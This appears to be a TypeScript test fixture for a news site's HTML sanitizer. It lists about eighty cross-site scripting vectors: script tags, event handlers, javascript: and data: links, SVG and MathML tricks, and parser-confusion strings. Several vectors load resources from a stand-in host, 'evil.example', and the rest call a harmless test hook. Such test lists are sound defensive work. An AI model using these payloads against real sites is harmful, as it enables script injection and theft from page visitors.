// HTML a hostile or compromised news author might put into a news body. Each vector, were it to run, calls
// `hit('<n>')` (a page function the test installs) or asks for a resource at EVIL, so the test sees any execution or
// anything leaving the page. `$` in a vector is replaced with its number.

/** Where a vector would send what it stole: no request may ever go there. */
export const EVIL = 'https://evil.example';

const js = `hit('$')`;
const jsEncoded = [...js].map((c) => `&#${c.charCodeAt(0)};`).join('');
const jsHex = [...js].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');

export const xssVectors: string[] = [
  // script elements
  `<script>${js}</script>`,
  `<SCRIPT>${js}</SCRIPT>`,
  `<script src="${EVIL}/$.js"></script>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<script type="module">${js}</script>`,
  `<p>tekst<script>${js}</script>dalej</p>`,
  `<<script>${js};//<</script>`,
  // event handlers
  `<img src=x onerror="${js}">`,
  `<img src="x" onerror=${js}>`,
  `<IMG SRC=x ONERROR="${js}">`,
  `<img src=x onerror="${jsEncoded}">`,
  `<body onload="${js}">`,
  `<p onclick="${js}" onmouseover="${js}">najedź</p>`,
  `<a href="https://example.pl" onmouseover="${js}">link</a>`,
  `<div onpointerenter="${js}" style="position:fixed;inset:0">zasłona</div>`,
  `<input autofocus onfocus="${js}">`,
  `<details open ontoggle="${js}">x</details>`,
  `<video><source onerror="${js}"></video>`,
  `<audio src=x onerror="${js}"></audio>`,
  `<marquee onstart="${js}">x</marquee>`,
  `<select autofocus onfocus="${js}"></select>`,
  `<textarea autofocus onfocus="${js}"></textarea>`,
  `<strong onanimationstart="${js}" style="animation:spin 1s">x</strong>`,
  `<p/onmouseover=${js}>x</p>`,
  `<img src=x:alert(1) onerror=eval(atob('${base64(js)}'))>`,
  // javascript:, data: and other schemes in links
  `<a href="javascript:${js}">kliknij</a>`,
  `<a href="JaVaScRiPt:${js}">kliknij</a>`,
  `<a href="  javascript:${js}">kliknij</a>`,
  `<a href="java&#x09;script:${js}">kliknij</a>`,
  `<a href="java&#10;script:${js}">kliknij</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${jsEncoded}">kliknij</a>`,
  `<a href="&#x6a;avascript:${jsHex}">kliknij</a>`,
  `<a href="javascript&colon;${js}">kliknij</a>`,
  `<a href="data:text/html;base64,${base64(`<script>parent.hit('$')</script>`)}">kliknij</a>`,
  `<a href="data:text/html,<script>parent.hit('$')</script>">kliknij</a>`,
  `<a href="vbscript:msgbox(1)">kliknij</a>`,
  `<a href="//evil.example/$">kliknij</a>`,
  `<a href="${EVIL}/$" target="_self" rel="opener">kliknij</a>`,
  `<form action="javascript:${js}"><button>wyślij</button></form>`,
  `<button formaction="javascript:${js}">x</button>`,
  // SVG and MathML
  `<svg onload="${js}"></svg>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><a xlink:href="javascript:${js}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${js}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><foreignObject><img src=x onerror="${js}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${js}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${js}">x</math>`,
  // style
  `<style>@import '${EVIL}/$.css';</style>`,
  `<style>body{background:url('${EVIL}/$.png')}</style>`,
  `<p style="background-image:url('${EVIL}/$.png')">x</p>`,
  `<p style="width:expression(${js})">x</p>`,
  `<link rel="stylesheet" href="${EVIL}/$.css">`,
  // frames, objects and embeds
  `<iframe src="javascript:parent.hit('$')"></iframe>`,
  `<iframe srcdoc="<script>parent.hit('$')</script>"></iframe>`,
  `<iframe src="${EVIL}/$"></iframe>`,
  `<object data="data:text/html;base64,${base64(`<script>parent.hit('$')</script>`)}"></object>`,
  `<embed src="${EVIL}/$.swf">`,
  `<frameset><frame src="javascript:parent.hit('$')"></frameset>`,
  // images and other resources leaving the page
  `<img src="${EVIL}/$.png">`,
  `<img srcset="${EVIL}/$.png 1x">`,
  `<picture><source srcset="${EVIL}/$.webp"><img src="${EVIL}/$.png"></picture>`,
  `<table background="${EVIL}/$.png"><tr><td>x</td></tr></table>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/$">`,
  `<base href="${EVIL}/">`,
  // template, comments and parser confusion
  `<template><img src=x onerror="${js}"></template>`,
  `<!--<img src="--><img src=x onerror="${js}">`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>`,
  `<title><img title="</title><img src=x onerror=${js}>"></title>`,
  `<textarea><img title="</textarea><img src=x onerror=${js}>"></textarea>`,
  `<a href="https://example.pl" title="&quot;&gt;&lt;img src=x onerror=${js}&gt;">link</a>`,
  `&lt;img src=x onerror="${js}"&gt;`,
  `<img src=x onerror\u0000="${js}">`,
  `<isindex type=image src=1 onerror=${js}>`,
  `<object><param name="src" value="javascript:${js}"></object>`,
];
